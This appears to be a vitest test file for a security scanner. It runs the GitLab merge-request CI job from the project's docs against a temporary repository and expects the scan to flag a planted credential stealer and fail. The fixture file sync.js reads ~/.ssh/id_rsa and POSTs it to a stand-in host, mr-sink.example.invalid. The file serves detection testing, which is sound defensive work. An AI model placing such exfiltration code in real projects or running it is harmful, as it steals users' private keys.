import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { CLI, ROOT } from "../helpers/cli.js";

// The GitLab CI job printed in docs/ci.md, run as written (only the path of the built
// CLI differs) on a merge-request-shaped repository: a base commit, and an MR commit that
// adds a credential stealer to first-party code.

const doc = readFileSync(join(ROOT, "docs", "ci.md"), "utf8");
const section = doc.slice(doc.indexOf("GitLab: a merge-request job"));
const block = /```yaml\n([\s\S]*?)```/.exec(section)![1]!;
const job = (parse(block) as Record<string, { variables: Record<string, string>; script: string[]; artifacts: { when: string; reports: { sast: string } }; rules: { if: string }[] }>).exfilscan!;
const BUILT = "node /tmp/exfilscan/dist/cli.js";

const env = { GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@example.invalid", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@example.invalid", GIT_CONFIG_NOSYSTEM: "1", HOME: tmpdir() };
const git = (cwd: string, ...args: string[]) => execFileSync("git", args, { cwd, encoding: "utf8", env: { ...process.env, ...env } }).trim();

const repo = mkdtempSync(join(tmpdir(), "exfilscan-mr-"));
afterAll(() => rmSync(repo, { recursive: true, force: true }));

describe("docs/ci.md GitLab CI job", () => {
  it("is a merge-request job with full history, a pinned build and a SAST report artifact", () => {
    expect(job.variables.GIT_DEPTH).toBe("0");
    expect(job.rules).toEqual([{ if: '$CI_PIPELINE_SOURCE == "merge_request_event"' }]);
    expect(job.artifacts.when).toBe("always");
    expect(job.script.join("\n")).toContain('checkout -q "$EXFILSCAN_SHA"');
    expect(job.script.join("\n")).not.toMatch(/npx exfilscan/);
  });

  it("its scan line reports the MR's stealer in a GitLab report and fails the job", () => {
    git(repo, "init", "-q", "-b", "main");
    writeFileSync(join(repo, "package.json"), JSON.stringify({ name: "mr-app", version: "1.0.0", private: true }));
    writeFileSync(join(repo, "package-lock.json"), JSON.stringify({ name: "mr-app", lockfileVersion: 3, packages: { "": { name: "mr-app" } } }));
    writeFileSync(join(repo, "index.js"), "module.exports = (a, b) => a + b;\n");
    git(repo, "add", "-A");
    git(repo, "commit", "-qm", "base");
    const base = git(repo, "rev-parse", "HEAD");
    git(repo, "checkout", "-qb", "feature");
    writeFileSync(join(repo, "sync.js"), "const fs = require('fs');\nconst os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nfetch('https://mr-sink.example.invalid/k', { method: 'POST', body: key });\n");
    git(repo, "add", "-A");
    git(repo, "commit", "-qm", "feature");

    const line = job.script.find((command) => command.startsWith(BUILT))!;
    expect(line).toBeDefined();
    const command = line.replace(BUILT, `node ${JSON.stringify(CLI)}`) + " --offline";
    const run = spawnSync("bash", ["-c", command], {
      cwd: repo,
      encoding: "utf8",
      env: { ...process.env, ...env, NO_COLOR: "1", CI_MERGE_REQUEST_DIFF_BASE_SHA: base, CI_PIPELINE_SOURCE: "merge_request_event", XDG_CACHE_HOME: join(repo, ".cache") },
      timeout: 120_000,
    });
    expect(run.status, run.stderr).toBe(1);
    expect(run.stderr).toMatch(/credential-exfiltration/);
    const report = JSON.parse(readFileSync(join(repo, job.artifacts.reports.sast), "utf8"));
    expect(report.scan.type).toBe("sast");
    expect(report.scan.status).toBe("success");
    const files = report.vulnerabilities.map((v: { location: { file: string } }) => v.location.file);
    expect(new Set(files)).toEqual(new Set(["sync.js"]));
    const critical = report.vulnerabilities.filter((v: { severity: string }) => v.severity === "Critical");
    expect(critical.map((v: { identifiers: { value: string }[] }) => v.identifiers[0]!.value)).toEqual(["credential-exfiltration"]);
  });
});
